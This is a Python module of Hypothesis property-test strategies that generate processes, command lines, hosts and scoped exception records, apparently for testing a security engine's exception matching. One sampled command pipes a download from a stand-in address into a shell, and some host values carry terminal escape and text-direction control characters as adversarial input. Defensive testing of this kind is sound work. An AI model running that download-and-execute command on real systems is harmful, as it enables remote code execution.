"""Processes and the scopes that are made from them, for the properties of exceptions."""

from __future__ import annotations

from dataclasses import replace

from hypothesis import strategies as st

from engine.exceptions.commands import CommandKind
from engine.exceptions.kept import KEPT, ExceptionReason, ExceptionScope, KeptException
from engine.exceptions.matching import SeenProcess

PATHS = st.sampled_from(
    [
        "c:\\windows\\explorer.exe", "c:\\windows\\system32\\cmd.exe", "c:\\program files\\acme 2.3\\tool.exe",
        "c:\\program files\\acme 2.4\\tool.exe", "/usr/sbin/cron", "/bin/sh", "/home/bob/3f9ac2d1.sh", "/tmp/<version>/x",
    ]
)  # fmt: skip
COMMANDS = st.one_of(
    st.none(),
    st.sampled_from(
        ["sh -c 'debian-sa1 1 1'", "sh -c 'debian-sa1 60 2'", "sh -c 'curl http://192.0.2.7/x | sh'", "tool.exe", ""]
    ),
    st.text(max_size=30),
)
HOSTS = st.sampled_from(["WEB01", "web02.corp.example", "db[1]", "\u202eexe", "\x1b[31m", ""])
SEEN = st.builds(
    SeenProcess,
    st.lists(PATHS, min_size=1, max_size=5).map(tuple),
    st.lists(HOSTS, min_size=1, max_size=2).map(tuple),
    COMMANDS,
)
WORDS = st.lists(st.text(min_size=1, max_size=12), max_size=6).map(tuple)
SCOPES = st.builds(
    ExceptionScope,
    st.text(min_size=1, max_size=20),
    st.lists(st.text(min_size=1, max_size=20), max_size=3).map(tuple),
    st.booleans(),
    st.text(max_size=10),
    st.one_of(st.sampled_from(CommandKind), WORDS),
).map(lambda scope: replace(scope, alone=scope.is_alone))
MOMENTS = st.integers(-(2**50), 2**52)
KEPT_ONES = st.builds(
    KeptException, SCOPES, st.sampled_from(KEPT), st.sampled_from(ExceptionReason), st.text(max_size=20), st.text(max_size=40),
    MOMENTS, st.none(),
).flatmap(
    lambda kept: st.one_of(st.none(), st.integers(kept.created_us + 1, kept.created_us + 2**50)).map(
        lambda expires: KeptException(
            kept.scope, kept.verdict, kept.reason, kept.owner, kept.note, kept.created_us, expires
        )
    )
)  # fmt: skip
